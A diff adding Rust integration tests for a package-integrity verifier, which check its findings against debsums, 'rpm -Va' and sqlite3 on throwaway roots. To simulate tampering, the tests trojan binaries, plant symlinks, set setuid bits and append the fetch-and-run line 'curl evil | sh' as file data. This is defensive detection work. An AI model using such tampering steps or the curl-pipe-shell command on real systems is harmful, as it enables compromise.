@@ -1,0 +1,368 @@
+//! `rescue::pkgdb` on real roots (issue 18), cross-checked with tools no one here wrote: on a Debian
+//! 12 debootstrap root, `debsums --root` reports the same changed package files as `pkgdb::verify`
+//! after the test modified some (and none on the clean root); on a RHEL-like root whose rpmdb Debian's
+//! `rpm` made, `rpm --root … -Va` does.
+
+#[path = "common/pkgroots.rs"]
+mod pkgroots;
+
+use std::collections::BTreeSet;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Command;
+use std::time::Instant;
+
+use rescue::pkgdb::{self, Change, DbKind};
+
+/// The changed files debsums reports: `-c` lists changed files on stdout, missing ones are
+/// "missing file X (from P package)" on stderr; both with the root in front.
+fn debsums_changed(root: &Path) -> BTreeSet<String> {
+    let prefix = root.to_string_lossy().into_owned();
+    let strip = |p: &str| p.strip_prefix(prefix.as_str()).unwrap_or(p).to_owned();
+    let o = Command::new("debsums")
+        .args(["-a", "-c", "--root"])
+        .arg(root)
+        .output()
+        .unwrap();
+    let mut out: BTreeSet<String> = String::from_utf8_lossy(&o.stdout)
+        .lines()
+        .map(strip)
+        .collect();
+    for line in String::from_utf8_lossy(&o.stderr).lines() {
+        if let Some(rest) = line.split("missing file ").nth(1) {
+            out.insert(strip(rest.split(" (from ").next().unwrap()));
+        } else {
+            panic!("debsums said something unexpected: {line}");
+        }
+    }
+    out
+}
+
+fn pkgdb_changed(root: &Path) -> (BTreeSet<String>, Vec<pkgdb::Changed>) {
+    let db = pkgdb::open(root).unwrap().expect("a package database");
+    let changed = db.verify(root, &mut |_| {}).unwrap();
+    let set = changed
+        .iter()
+        .map(|c| c.path.to_string_lossy().into_owned())
+        .collect();
+    (set, changed)
+}
+
+#[test]
+fn debian_root_changes_agree_with_debsums() {
+    const NAME: &str = "debian_root_changes_agree_with_debsums";
+    if !pkgroots::have("debsums") && !pkgroots::skip(NAME, "debsums is not installed") {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    if pkgroots::debian12_root(NAME, root).is_none() {
+        return;
+    }
+
+    let db = pkgdb::open(root).unwrap().expect("dpkg database");
+    assert_eq!(db.kind(), DbKind::Dpkg);
+    assert!(
+        db.packages().len() > 100,
+        "{} packages",
+        db.packages().len()
+    );
+    // /usr-merged: dpkg lists /bin/ls, the file is /usr/bin/ls; both spellings find the owner.
+    assert_eq!(db.owner(Path::new("/usr/bin/ls")), Some("coreutils"));
+    assert_eq!(db.owner(Path::new("/bin/ls")), Some("coreutils"));
+    assert_eq!(
+        db.owner(Path::new("/usr/lib/x86_64-linux-gnu/libc.so.6")),
+        Some("libc6:amd64"),
+        "a Multi-Arch: same package is named with its architecture"
+    );
+    // dash diverts /bin/sh to /bin/sh.distrib for other packages and ships /bin/sh itself.
+    assert_eq!(db.owner(Path::new("/bin/sh")), Some("dash"));
+    // Made by a maintainer script, not shipped: no owner.
+    assert_eq!(db.owner(Path::new("/etc/passwd")), None);
+    assert_eq!(db.owner(Path::new("/usr/bin/planted")), None);
+
+    let (clean, _) = pkgdb_changed(root);
+    let ds_clean = debsums_changed(root);
+    assert_eq!(clean, ds_clean, "on the clean root");
+    assert!(clean.is_empty(), "a fresh debootstrap root: {clean:?}");
+
+    // The attacker's work: a trojaned binary, a library cut short, a deleted tool, a symlink planted
+    // where a binary was, a changed conffile, a mode change on a stat-overridden file.
+    let ls = root.join("usr/bin/ls");
+    let mut bytes = std::fs::read(&ls).unwrap();
+    bytes.extend_from_slice(b"trojan");
+    std::fs::write(&ls, bytes).unwrap();
+    let lib = std::fs::read_dir(root.join("usr/lib/x86_64-linux-gnu"))
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| {
+            p.file_name()
+                .is_some_and(|n| n.to_string_lossy().starts_with("libpam.so.0."))
+        })
+        .expect("libpam in the root");
+    let len = std::fs::metadata(&lib).unwrap().len();
+    std::fs::OpenOptions::new()
+        .write(true)
+        .open(&lib)
+        .unwrap()
+        .set_len(len / 2)
+        .unwrap();
+    std::fs::remove_file(root.join("usr/bin/whoami")).unwrap();
+    std::fs::remove_file(root.join("usr/bin/id")).unwrap();
+    std::os::unix::fs::symlink("/tmp/.x/id", root.join("usr/bin/id")).unwrap();
+    std::fs::write(root.join("etc/debian_version"), "13.0\n").unwrap();
+    std::fs::set_permissions(
+        root.join("usr/bin/crontab"),
+        std::fs::Permissions::from_mode(0o4755),
+    )
+    .unwrap();
+
+    let t = Instant::now();
+    let (ours, changed) = pkgdb_changed(root);
+    let t_ours = t.elapsed();
+    let t = Instant::now();
+    let theirs = debsums_changed(root);
+    let t_debsums = t.elapsed();
+    eprintln!(
+        "verify: pkgdb {:.2} s, debsums --root {:.2} s",
+        t_ours.as_secs_f64(),
+        t_debsums.as_secs_f64()
+    );
+    // debsums does not read statoverride: the crontab mode change is ours alone.
+    let mut ours_comparable = ours.clone();
+    assert!(ours_comparable.remove("/usr/bin/crontab"), "{ours:?}");
+    assert_eq!(ours_comparable, theirs, "pkgdb vs debsums");
+    let by_path = |p: &str| changed.iter().find(|c| c.path == Path::new(p)).unwrap();
+    assert!(matches!(
+        by_path("/bin/ls").changes[..],
+        [Change::Digest { .. }]
+    ));
+    assert!(matches!(
+        by_path("/usr/bin/whoami").changes[..],
+        [Change::Missing]
+    ));
+    assert!(matches!(
+        by_path("/usr/bin/id").changes[..],
+        [Change::FileType { .. }]
+    ));
+    assert!(by_path("/etc/debian_version").config);
+    assert!(!by_path("/bin/ls").config);
+    assert_eq!(
+        by_path("/usr/bin/crontab").changes,
+        [Change::Mode {
+            expected: 0o2755,
+            found: 0o4755
+        }]
+    );
+    assert_eq!(by_path("/bin/ls").package, "coreutils");
+    pkgroots::ran(NAME);
+}
+
+/// The files `rpm -Va` reports as changed in what pkgdb compares: digest (5), mode (M), user (U),
+/// group (G), link target (L), or missing. Size-only, mtime-only and "could not test" columns are
+/// left out (pkgdb does not compare mtimes; a changed size comes with a changed digest).
+fn rpm_va_changed(root: &Path) -> BTreeSet<String> {
+    let o = Command::new("rpm")
+        .arg("--root")
+        .arg(root)
+        .args(["--dbpath", "/var/lib/rpm", "-Va"])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        o.stderr.is_empty(),
+        "rpm -Va: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    stdout
+        .lines()
+        .filter(|l| l.starts_with("missing") || l[..9].contains(['5', 'M', 'U', 'G', 'L']))
+        .map(|l| l.split_whitespace().last().unwrap().to_owned())
+        .collect()
+}
+
+#[test]
+fn rpm_root_changes_agree_with_rpm_va() {
+    const NAME: &str = "rpm_root_changes_agree_with_rpm_va";
+    let dir = tempfile::tempdir().unwrap();
+    let (root, work) = (dir.path().join("root"), dir.path().join("work"));
+    std::fs::create_dir_all(&root).unwrap();
+    if pkgroots::rpm_root(NAME, &root, &work).is_none() {
+        return;
+    }
+    let db = pkgdb::open(&root).unwrap().expect("rpmdb");
+    assert_eq!(db.kind(), DbKind::Rpm);
+    let mut names: Vec<&str> = db.packages().iter().map(|p| p.name.as_str()).collect();
+    names.sort();
+    assert_eq!(names, ["rescue-daemon", "rescue-libs", "rescue-tools"]);
+    assert_eq!(
+        db.owner(Path::new("/usr/bin/rt-hello")),
+        Some("rescue-tools")
+    );
+    assert_eq!(db.owner(Path::new("/bin/rt-hello")), Some("rescue-tools"));
+    assert_eq!(db.owner(Path::new("/var/lib/rtd")), Some("rescue-daemon"));
+    assert_eq!(db.owner(Path::new("/etc/passwd")), None);
+    let (clean, _) = pkgdb_changed(&root);
+    assert_eq!(clean, rpm_va_changed(&root), "on the clean root");
+    assert!(clean.is_empty(), "freshly installed: {clean:?}");
+
+    let append = |p: &str, extra: &[u8]| {
+        let path = root.join(p);
+        let mut b = std::fs::read(&path).unwrap();
+        b.extend_from_slice(extra);
+        std::fs::write(&path, b).unwrap();
+    };
+    append("usr/bin/rt-hello", b"curl evil | sh\n");
+    append("etc/rt.conf", b"backdoor = 1\n");
+    // Same size, one byte changed in the middle of the 3 MiB library: only the digest tells.
+    let lib = root.join("usr/lib64/librt-demo.so.1");
+    let mut b = std::fs::read(&lib).unwrap();
+    b[1_500_000] ^= 0xff;
+    std::fs::write(&lib, b).unwrap();
+    let chmod = |p: &str, m: u32| {
+        std::fs::set_permissions(root.join(p), std::fs::Permissions::from_mode(m)).unwrap()
+    };
+    chmod("usr/bin/rt-world", 0o4755);
+    chmod("var/lib/rtd", 0o777);
+    std::os::unix::fs::chown(root.join("usr/share/rt/data.txt"), Some(65534), None).unwrap();
+    std::fs::remove_file(root.join("usr/sbin/rtd")).unwrap();
+    std::fs::remove_file(root.join("usr/bin/rt-link")).unwrap();
+    std::os::unix::fs::symlink("rt-world", root.join("usr/bin/rt-link")).unwrap();
+
+    let (ours, changed) = pkgdb_changed(&root);
+    let theirs = rpm_va_changed(&root);
+    assert_eq!(ours, theirs, "pkgdb vs rpm -Va");
+    assert_eq!(ours.len(), 8, "{ours:?}");
+    let by_path = |p: &str| changed.iter().find(|c| c.path == Path::new(p)).unwrap();
+    assert!(by_path("/etc/rt.conf").config);
+    assert!(matches!(
+        by_path("/usr/lib64/librt-demo.so.1").changes[..],
+        [Change::Digest {
+            algorithm: pkgdb::DigestAlgo::Sha256,
+            ..
+        }]
+    ));
+    assert_eq!(
+        by_path("/usr/bin/rt-world").changes,
+        [Change::Mode {
+            expected: 0o755,
+            found: 0o4755
+        }]
+    );
+    assert_eq!(
+        by_path("/usr/share/rt/data.txt").changes,
+        [Change::User {
+            expected: "root".into(),
+            found: "nobody".into()
+        }]
+    );
+    assert!(matches!(
+        by_path("/usr/bin/rt-link").changes[..],
+        [Change::LinkTarget { .. }]
+    ));
+    assert_eq!(by_path("/usr/sbin/rtd").changes, [Change::Missing]);
+    pkgroots::ran(NAME);
+}
+
+/// Our SQLite reader against `sqlite3` itself, on what the rpmdb reader meets: a table of rows with
+/// large blobs (overflow chains), enough of them for interior pages, and a write-ahead log holding
+/// committed transactions not yet checkpointed (rows inserted, updated and deleted after the last
+/// checkpoint), copied while the writer still had the database open.
+#[test]
+fn sqlite_reader_agrees_with_sqlite3_including_the_wal() {
+    const NAME: &str = "sqlite_reader_agrees_with_sqlite3_including_the_wal";
+    if !pkgroots::have("sqlite3") && !pkgroots::skip(NAME, "sqlite3 is not installed") {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("rpmdb.sqlite");
+    let copy = dir.path().join("copy.sqlite");
+    // Dot commands (`.shell`) must start their line.
+    let script = [
+        "PRAGMA journal_mode=WAL;",
+        "PRAGMA wal_autocheckpoint=0;",
+        "CREATE TABLE 'Packages' (hnum INTEGER PRIMARY KEY AUTOINCREMENT,blob BLOB NOT NULL);",
+        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<300)",
+        "  INSERT INTO Packages(blob) SELECT randomblob(x*37 % 9000 + 1) FROM c;",
+        "PRAGMA wal_checkpoint(TRUNCATE);",
+        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<200)",
+        "  INSERT INTO Packages(blob) SELECT randomblob(x*53 % 20000 + 1) FROM c;",
+        "DELETE FROM Packages WHERE hnum % 7 = 0;",
+        "UPDATE Packages SET blob = randomblob(50000) WHERE hnum = 5;",
+        &format!(
+            ".shell cp {db} {copy} && cp {db}-wal {copy}-wal",
+            db = db.display(),
+            copy = copy.display()
+        ),
+        "",
+    ]
+    .join("\n");
+    let mut child = Command::new("sqlite3")
+        .arg(&db)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(script.as_bytes())
+        .unwrap();
+    assert!(child.wait().unwrap().success());
+    let wal_len = std::fs::metadata(format!("{}-wal", copy.display()))
+        .unwrap()
+        .len();
+    assert!(wal_len > 0, "the copy has uncheckpointed WAL frames");
+
+    let open = |p: &Path| std::fs::File::open(p).unwrap();
+    let reader = pkgdb::sqlite::Sqlite::open(
+        open(&copy),
+        Some(open(Path::new(&format!("{}-wal", copy.display())))),
+    )
+    .unwrap();
+    let root = reader.table_root("Packages").unwrap().unwrap();
+    let mut ours = Vec::new();
+    reader
+        .for_each_row(root, &mut |rowid, rec| {
+            let pkgdb::sqlite::Value::Blob(b) = &rec[1] else {
+                panic!("row {rowid}: {rec:?}");
+            };
+            ours.push(format!("{rowid}|{}", hex_upper(b)));
+            Ok(())
+        })
+        .unwrap();
+    // Without its WAL the file holds only what the checkpoint wrote: the WAL was really read.
+    let main_only = pkgdb::sqlite::Sqlite::open(open(&copy), None).unwrap();
+    let mut rows = 0;
+    main_only
+        .for_each_row(
+            main_only.table_root("Packages").unwrap().unwrap(),
+            &mut |_, _| {
+                rows += 1;
+                Ok(())
+            },
+        )
+        .unwrap();
+    assert_eq!(rows, 300);
+    // sqlite3 reads the copy (and its WAL) last: closing it checkpoints and removes the WAL.
+    let theirs = pkgroots::run(
+        Command::new("sqlite3")
+            .arg(&copy)
+            .arg("SELECT hnum, hex(blob) FROM Packages ORDER BY hnum"),
+    );
+    let theirs: Vec<String> = String::from_utf8(theirs)
+        .unwrap()
+        .lines()
+        .map(str::to_owned)
+        .collect();
+    assert_eq!(ours.len(), 500 - 500 / 7);
+    assert!(ours == theirs, "rows differ from sqlite3's");
+    pkgroots::ran(NAME);
+}
+
+fn hex_upper(b: &[u8]) -> String {
+    b.iter().map(|x| format!("{x:02X}")).collect()
+}
